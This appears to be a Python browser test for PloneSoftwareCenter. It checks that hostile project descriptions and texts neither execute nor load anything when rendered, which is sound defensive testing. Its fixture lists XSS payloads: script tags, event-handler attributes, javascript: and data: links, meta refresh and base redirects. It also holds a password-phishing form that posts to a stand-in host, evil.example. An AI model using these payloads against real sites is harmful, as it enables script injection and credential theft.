"""Texts that want to be more than texts, in a real browser: nothing of them runs or loads."""

from Products.PloneSoftwareCenter.testing import create_project
from Products.PloneSoftwareCenter.tests.browser.in_browser import BrowserTest
from Products.PloneSoftwareCenter.tests.browser.in_browser import PHONE
from Products.PloneSoftwareCenter.tests.browser.sample import RIGHT_TO_LEFT


TRICKS = """\
<script>window.reached = 1; alert(1)</script>
<iframe src="https://evil.example/frame" srcdoc="<script>parent.reached = 2</script>"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<img src="x" onerror="window.reached = 3">
<svg onload="window.reached = 4"><script>window.reached = 5</script></svg>
<details open ontoggle="window.reached = 6"><summary>open</summary></details>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<style>body { display: none }</style> <base href="https://evil.example/">
<object data="https://evil.example/o"></object> <embed src="https://evil.example/e">
<a href="javascript:window.reached=7">one</a> <a href="data:text/html,<script>1</script>">two</a>
[three](javascript:window.reached=8) [four](java\\script:window.reached=9)

A text that is told.
"""
DEEP = "<div>" * 2000 + "deep" + "</div>" * 2000
#: what no description has; a field that it has is a box of a list of tasks, which nobody can tick
UNSAFE = (
    "script, iframe, form, object, embed, base, meta, style, svg, [onerror], [onload],"
    " input:not([disabled][type=checkbox])"
)


class TestHostileTexts(BrowserTest):
    def setUp(self):
        super().setUp()
        self.texts = {
            "tricks-markdown": (TRICKS, "text/markdown"),
            "tricks-rest": (f".. raw:: html\n\n  {TRICKS}", "text/x-rst"),
            "deep": (DEEP, "text/markdown"),
        }
        with self.changes():
            for name, (text, kind) in self.texts.items():
                more = {"description": TRICKS[:200], "home_page": "javascript:window.reached=10"}
                project = create_project(self.center, name, title=f"{name} {RIGHT_TO_LEFT}")
                project.text, project.text_content_type = text, kind
                project.description = more["description"]
                project.contact_address = more["home_page"]
                project.reindexObject()

    def test_nothing_of_them_runs_leads_or_loads(self):
        page = self.open_window(PHONE)
        dialogs, asked = [], []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: asked.append(request.url))
        for name in ("", *(f"/{name}" for name in self.texts)):
            with self.subTest(name):
                page.goto(self.url + name, wait_until="networkidle")
                self.assertEqual(page.evaluate("window.reached"), None)
                self.assertTrue(page.is_visible("#content"))
                self.assertEqual(page.locator(f"#psc-description :is({UNSAFE})").count(), 0)
                self.assertEqual(page.locator("#content a[href^='javascript:' i]").count(), 0)
                self.assertEqual(page.locator("#content a[href^='data:' i]").count(), 0)
                self.assertNotIn("\u202e", page.inner_text("#content h1"))
                self.assertFits(page, PHONE)
        self.assertEqual(dialogs, [])
        self.assertEqual([url for url in asked if "evil.example" in url], [])
